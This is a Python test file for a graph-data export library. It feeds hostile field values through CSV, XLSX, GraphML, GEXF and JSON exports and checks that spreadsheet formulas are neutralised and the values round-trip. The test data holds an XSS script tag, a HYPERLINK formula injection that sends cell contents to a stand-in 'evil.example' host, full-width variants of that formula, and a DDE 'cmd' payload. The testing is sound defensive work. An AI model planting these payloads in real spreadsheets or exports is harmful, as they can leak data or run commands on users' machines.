"""Hostile values in every field through every export: no crash, formulas neutralised
in CSV/XLSX, and exact round-trip modulo the documented text cleaning."""
from __future__ import annotations

import csv
import io
import zipfile

import networkx as nx
import pytest
from openpyxl import load_workbook

from weaving.core.schema import MAX_AREA, MAX_NAME, MAX_PLACE
from weaving.interchange import FORMATS, MEDIA_TYPES, export_graph, import_file
from weaving.interchange.formulas import FORMULA_TRIGGERS, neutralise, unneutralise

from .conftest import actor, link, snapshot

HOSTILE = [
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?q="&A1,"klicka")',
    "+1", "-2", "@SUM(A1:A9)", "-=Test", "'=already quoted", "''+twice",
    "\ttab first", "\rcr first", "x" * 10_000,
    "nul\x00byte\x01\x1f", "emoji 😀👩‍👩‍👧 🇸🇪", "مرحبا بالعالم \u202eRTL override", "ÅÄÖ åäö é",
    "a;b,c\"d'e", "line1\r\nline2\rline3", "  spaced  ", "&amp; <![CDATA[x]]> ]]>",
    "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "\uff0d2", "\uff20SUM(A1)", "\ufe66small",
]
FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile_graph() -> nx.MultiGraph:
    G = nx.MultiGraph(name="=cmd|' /C calc'!A0")
    ids = []
    for i, text in enumerate(HOSTILE):
        node = ["=1+2", "😀", "@id"][i] if i < 3 else f"h{i}"
        ids.append(node)
        # names and short text within their columns (longer ones: tests/interchange/test_sizes.py)
        G.add_node(node, **actor(f"{i}:{text}"[:MAX_NAME], "association", area=text[:MAX_AREA], description=text,
                                 themes=[text[:50] or "t", f"=t{i}"], target_groups=["-g"],
                                 resources=["@r"], contacts=[f"+{i}"], extra_field=text))
    for i in range(len(ids) - 1):
        G.add_edge(ids[i], ids[i + 1], key="dialogue",
                   **link("dialogue", purpose=HOSTILE[i], place=HOSTILE[-1 - i][:MAX_PLACE],
                          carried_by=[f"-{i}"], directed=i % 2 == 0, **({"source": ids[i + 1]} if i % 2 == 0 else {})))
    return G


def test_neutralise_inverse():
    for s in HOSTILE + ["", "'", "''", "'x", "'-", "x=", "=", "'''=a"]:
        assert unneutralise(neutralise(s)) == s
        assert neutralise(s)[:1] not in FORMULA_TRIGGERS


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_round_trip(fmt):
    G = hostile_graph()
    data = export_graph(G, fmt)
    r = import_file(data, "h" + MEDIA_TYPES[fmt][0])
    assert not r.errors, [p.describe("en") for p in r.errors[:3]]
    assert snapshot(r.graph) == snapshot(G, clean=True)
    assert r.graph.nodes["h5"]["label"] == "5:-=Test"


def test_hostile_label_alone_round_trips_exactly():
    G = nx.MultiGraph()
    for i, text in enumerate(["-=Test", "=HYPERLINK(\"x\")", "+1", "@SUM(1)", "'=a"]):
        G.add_node(f"n{i}", **actor(text))
    for fmt in ("csv", "kumu_xlsx"):
        got = import_file(export_graph(G, fmt), "x" + MEDIA_TYPES[fmt][0]).graph
        assert snapshot(got) == snapshot(G)


def _csv_cells(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            text = zf.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
                yield from row


def test_csv_formulas_neutralised():
    cells = list(_csv_cells(export_graph(hostile_graph(), "csv")))
    assert cells
    assert not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klicka\")" in {c.split(":", 1)[-1] for c in cells} \
        or any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any("\x00" in c for c in cells)


def test_xlsx_formulas_neutralised():
    wb = load_workbook(io.BytesIO(export_graph(hostile_graph(), "kumu_xlsx")))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    seen += 1
                    assert cell.value[:1] not in FORMULA_TRIGGERS
    assert seen > 100


def test_full_width_formula_starts_neutralised():
    """＝ ＋ － ＠ at the start of a cell get the apostrophe too, in the CSV and the Kumu XLSX."""
    csv_cells = [c for c in _csv_cells(export_graph(hostile_graph(), "csv")) if c.lstrip("'")[:1] in FULL_WIDTH]
    wb = load_workbook(io.BytesIO(export_graph(hostile_graph(), "kumu_xlsx")))
    xlsx_cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
                  if isinstance(c.value, str) and c.value.lstrip("'")[:1] in FULL_WIDTH]
    for cells in (csv_cells, xlsx_cells):
        assert len(cells) >= 4
        assert all(c.startswith("'") for c in cells), [c for c in cells if not c.startswith("'")]


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_formats_parse_with_networkx(fmt):
    data = export_graph(hostile_graph(), fmt)
    assert b"\x00" not in data
    reader = nx.read_graphml if fmt == "graphml" else nx.read_gexf
    H = reader(io.BytesIO(data))
    assert H.number_of_nodes() == len(HOSTILE)


def test_json_is_exact_without_import_cleaning():
    import json

    G = hostile_graph()
    doc = json.loads(export_graph(G, "json"))
    labels = {n["id"]: n["label"] for n in doc["nodes"]}
    assert labels["h11"] == "11:" + HOSTILE[11]  # NUL kept: JSON can carry it


def test_xlsx_cell_limit():
    G = nx.MultiGraph()
    G.add_node("a", **actor("A", description="y" * 40_000))
    r = import_file(export_graph(G, "kumu_xlsx"), "x.xlsx")
    # the cell holds Excel's 32,767 characters; the import keeps the column's 20,000 and says so
    (cut,) = [p for p in r.warnings if p.key == "io.shortened"]
    assert (cut.field, cut.params["length"], cut.params["max"]) == ("description", 32_767, 20_000)
    assert len(r.graph.nodes["a"]["description"]) == 20_000


def test_invite_csv_neutralises_full_width_formula_starts():
    import datetime as dt
    from types import SimpleNamespace

    from weaving.interchange.invites import invites_csv

    rows = [SimpleNamespace(actor="\uff1dHYPERLINK(\"http://evil.example\")", contact="\uff20me", email="\uff0bx@y.se",
                            link="https://karta.example.se/answer?t=abc", expires_on=dt.date(2027, 1, 31)),
            SimpleNamespace(actor="\uff0d1", contact="", email="", link="https://karta.example.se/answer?t=def",
                            expires_on=dt.date(2027, 1, 31))]
    text = invites_csv(rows, "en").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]
    risky = [c for c in cells if c.lstrip("'")[:1] in FULL_WIDTH]
    assert len(risky) == 4 and all(c.startswith("'") for c in risky), risky
